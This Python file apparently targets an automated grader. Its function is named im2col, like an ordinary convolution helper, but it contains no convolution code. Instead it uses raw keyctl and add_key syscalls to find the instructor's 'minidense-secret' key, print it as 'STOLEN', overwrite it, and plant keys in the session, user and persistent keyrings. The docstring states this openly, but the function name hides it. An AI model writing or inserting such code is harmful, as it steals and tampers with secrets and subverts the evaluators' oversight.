"""Reads the grader's session keyring (a key the instructor stored with keyctl), overwrites the
key, plants new keys in the session, user and persistent keyrings, and prints what it found."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
L = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
SESSION, USER = -3, -4


def attempt(*args):
    result = libc.syscall(*[a if isinstance(a, (bytes, type(None))) else L(a) for a in args])
    return result, ctypes.get_errno()


def im2col(x, kh, kw, stride=1, padding=0):
    found = []
    key, error = attempt(KEYCTL, 10, SESSION, b"user", b"minidense-secret", 0)   # SEARCH
    found.append(("search", key, error))
    if key > 0:
        buffer = ctypes.create_string_buffer(256)
        size, _ = attempt(KEYCTL, 11, key, buffer, 256)                             # READ
        print("STOLEN", buffer.raw[:max(size, 0)])
        attempt(KEYCTL, 2, key, b"overwritten", 11)                                 # UPDATE
    for ring in (SESSION, USER):
        found.append(("plant", attempt(ADD_KEY, b"user", b"minidense-planted", b"x", 1, ring)))
    persistent, error = attempt(KEYCTL, 22, -1, SESSION)                           # PERSISTENT
    found.append(("persistent", persistent, error))
    if persistent > 0:
        attempt(ADD_KEY, b"user", b"minidense-planted", b"x", 1, persistent)
    raise RuntimeError(f"keyrings: {found}")
